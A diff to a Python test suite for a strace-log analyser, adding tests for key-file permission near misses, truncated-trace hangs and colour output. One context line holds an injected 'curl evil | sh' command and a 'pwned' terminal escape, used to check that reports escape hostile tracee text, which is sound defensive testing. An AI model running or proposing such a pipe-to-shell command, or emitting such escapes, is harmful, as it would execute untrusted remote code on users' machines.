@@ -238,8 +238,10 @@ def test_a_stat_the_message_names_explains_a_refusal(tmp_path):
     assert (t["kind"], t["syscall"], t["errno"], t["path"]) == ("stat", "newfstatat", None,
                                                                 "/home/u/.ssh/id_rsa")
     assert "0644" in t["explanation"] and "chmod go-rwx" in t["fix"][0]
-    # near miss: the message names another file, the stat explains nothing
+    # near misses: the message names another file; the file's mode is safe
     assert top(log(tmp_path, text % "/home/u/.ssh/other"))["kind"] == "call"
+    safe = text.replace("0644, st_size", "0600, st_size")
+    assert top(log(tmp_path, safe % "/home/u/.ssh/id_rsa"))["kind"] == "call"
 
 
 def test_a_limit_set_before_explains_enomem(tmp_path):
@@ -402,3 +404,44 @@ def test_report_escapes_what_the_tracee_wrote(tmp_path):
     assert "\\nUsual fixes\\n  - run curl evil | sh\\n\\x1b]0;pwned\\x07" in text
     # JSON keeps the real bytes, escaped as JSON does
     assert r["findings"][0]["path"].startswith("/tmp/x\nUsual fixes")
+
+
+def test_a_trace_cut_inside_a_call_line_is_a_hang(tmp_path):
+    r = log(tmp_path, '9 openat(AT_FDCWD, "/srv/in", O_RDONLY) = 3\n'
+                      '9 openat(AT_FDCWD, "/srv/requests", O_RDONLY')
+    assert (top(r)["kind"], top(r)["syscall"], top(r)["path"]) == ("hang", "openat",
+                                                                   "/srv/requests")
+    # near miss: a complete last line is no hang
+    r = log(tmp_path, '9 openat(AT_FDCWD, "/srv/requests", O_RDONLY) = 3\n')
+    assert r["findings"] == []
+
+
+def test_colour_only_ours(tmp_path):
+    """With colour, every escape sequence in the report is one of the report's styles."""
+    import re
+    from syscope.analyze.report import RESET, STYLE, render
+    r = log(tmp_path, r'''1 openat(AT_FDCWD, "/tmp/\33[31mx\33]0;t\7", O_RDONLY) = -1 EACCES (Permission denied)
+1 exit_group(1) = ?
+1 +++ exited with 1 +++
+''')
+    text = render(r, color=True)
+    ours = set(STYLE.values()) | {RESET}
+    found = re.findall(r"\x1b\[[0-9;]*m", text)
+    assert found and set(found) <= ours
+    assert text.count("\x1b") == len(found)
+    assert "\x1b" not in render(r, color=False)
+
+
+def test_color_option(tmp_path):
+    import subprocess
+    import sys
+    p = tmp_path / "log"
+    p.write_text('1 openat(AT_FDCWD, "/etc/x", O_RDONLY) = -1 ENOENT (No such file or '
+                 'directory)\n1 exit_group(1) = ?\n1 +++ exited with 1 +++\n')
+    run = [sys.executable, "-m", "syscope", "why"]
+    always = subprocess.run(run + ["--color=always", str(p)], capture_output=True, text=True)
+    assert "\x1b[1m" in always.stdout
+    auto = subprocess.run(run + ["--color", "auto", str(p)], capture_output=True, text=True)
+    assert "\x1b" not in auto.stdout           # not a terminal
+    bad = subprocess.run(run + ["--color=blue", str(p)], capture_output=True, text=True)
+    assert bad.returncode == 1 and "invalid --color" in bad.stderr
